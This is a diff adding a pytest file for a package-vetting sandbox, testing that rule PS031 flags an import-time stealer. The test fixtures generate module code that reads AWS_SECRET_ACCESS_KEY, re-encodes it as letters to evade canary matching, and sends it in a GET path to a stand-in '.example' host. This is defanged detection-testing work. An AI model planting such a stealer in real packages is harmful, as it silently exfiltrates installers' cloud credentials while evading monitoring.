@@ -1,0 +1,108 @@
+"""Issue 11's evasion, end to end: an import-time stealer reads a secret from
+``os.environ`` (no syscall shows it), spells it in letters only and GETs it as an
+ordinary-looking path. No canary matches and the accounted-fetch rules see an ordinary
+fetch: clean on main. The secrets and control passes re-run the import with the env
+honeytokens redrawn, then with the run's own again; PS031 compares what they sent.
+Defanged: the names are ``*.example``, the sinkhole answers inside the sandbox."""
+
+from __future__ import annotations
+
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from sandbox.models import Phase, Report, Verdict
+from tests.conftest import run_cli
+from tests.fixtures.builders import Randomised, build_wheel
+
+pytestmark = [pytest.mark.usefixtures("sandbox_image", "no_leaks"), pytest.mark.slow]
+
+# The import fetches, so each of these runs the secrets and control passes.
+
+
+def _letters(r: Randomised) -> str:
+    """A random alphabet of 16 letters (one per hex nibble)."""
+    return "".join(r.rng.sample("abcdefghijklmnopqrstuvwxyz", 16))
+
+
+def _fetch(r: Randomised, path_expr: str, nonce_header: bool = False) -> str:
+    """Module source that GETs http://cdn.<word>.example<path_expr> at import."""
+    word = "".join(r.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(r.rng.randrange(5, 9)))
+    headers = '{"X-Request-Id": str(uuid.uuid4())}' if nonce_header else "{}"
+    return textwrap.dedent(
+        f"""\
+        import os, time, urllib.request, uuid
+
+        _A = {_letters(r)!r}
+
+        def _spell(data):
+            return "".join(_A[b >> 4] + _A[b & 15] for b in data)
+
+        try:
+            _req = urllib.request.Request("http://cdn.{word}.example" + {path_expr}, headers={headers})
+            urllib.request.urlopen(_req, timeout=3).read()
+        except Exception:
+            pass
+        """
+    )
+
+
+def _stealer(r: Randomised, with_nonce: bool) -> str:
+    chunk = r.rng.randrange(12, 21)
+    nonce = '_spell(uuid.uuid4().bytes[:6]) + "/" + ' if with_nonce else ""
+    cut = f'"/".join(_E[i : i + {chunk}] for i in range(0, len(_E), {chunk}))'
+    path = f'"/assets/" + {nonce}{cut} + "/model.json"'
+    src = _fetch(r, path, nonce_header=with_nonce)
+    return src.replace(
+        "try:\n",
+        '_E = _spell(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())\n\ntry:\n',
+        1,
+    )
+
+
+def _vet(tmp_path: Path, prefix: str, src: str) -> tuple[int, Report | None]:
+    r = Randomised()
+    name = r.name(prefix)
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
+    return run_cli(tmp_path, str(whl))
+
+
+def _passes(report: Report) -> dict[str, str]:
+    return {p.pass_name: p.pass_note for p in report.phases if p.phase is Phase.IMPORT}
+
+
+@pytest.mark.parametrize("with_nonce", [False, True], ids=["plain", "uuid-beside"])
+def test_a_secret_spelled_in_letters_in_a_fetch_path_is_caught(tmp_path: Path, with_nonce: bool) -> None:
+    """AWS_SECRET_ACCESS_KEY, each hex nibble a letter, cut into path segments; with a
+    fresh uuid4 (spelled in letters too) beside it and a uuid4 request id, the variant
+    still gets caught: only tokens that default and control agree on count."""
+    code, report = _vet(tmp_path, "cdnfetch", _stealer(Randomised(), with_nonce))
+    assert report is not None
+    assert {"secrets", "control"} <= _passes(report).keys(), _passes(report)
+    assert "reached out" in _passes(report)["secrets"]
+    ps031 = [f for f in report.findings if f.rule_id == "PS031"]
+    assert ps031 and ps031[0].phase is Phase.IMPORT and ps031[0].pass_name == "secrets", [
+        (f.rule_id, f.phase, f.message) for f in report.findings
+    ]
+    assert "request target" in ps031[0].message, ps031[0].message
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+
+
+@pytest.mark.parametrize("kind", ["fixed", "nonce"])
+def test_an_import_time_fetch_that_ignores_the_secrets_is_not_taint(tmp_path: Path, kind: str) -> None:
+    """A fixed path, or a fresh uuid4 and the time (in letters) in the path and a uuid4
+    request id each run: the passes run, and PS031 says nothing. Both stay what main
+    said (clean: the network findings softened to LOW, fed the bait stage)."""
+    r = Randomised()
+    path = (
+        '"/assets/v1/model.json"'
+        if kind == "fixed"
+        else '"/assets/" + _spell(uuid.uuid4().bytes[:6]) + "/" + _spell(str(time.time_ns())[-6:].encode())'
+        ' + "/m.json"'
+    )
+    code, report = _vet(tmp_path, "cdnplain", _fetch(r, path, nonce_header=kind == "nonce"))
+    assert report is not None
+    assert {"secrets", "control"} <= _passes(report).keys(), _passes(report)
+    assert not [f for f in report.findings if f.rule_id == "PS031"], report.findings
+    assert report.verdict is Verdict.CLEAN and code == 0, report.verdict_reason
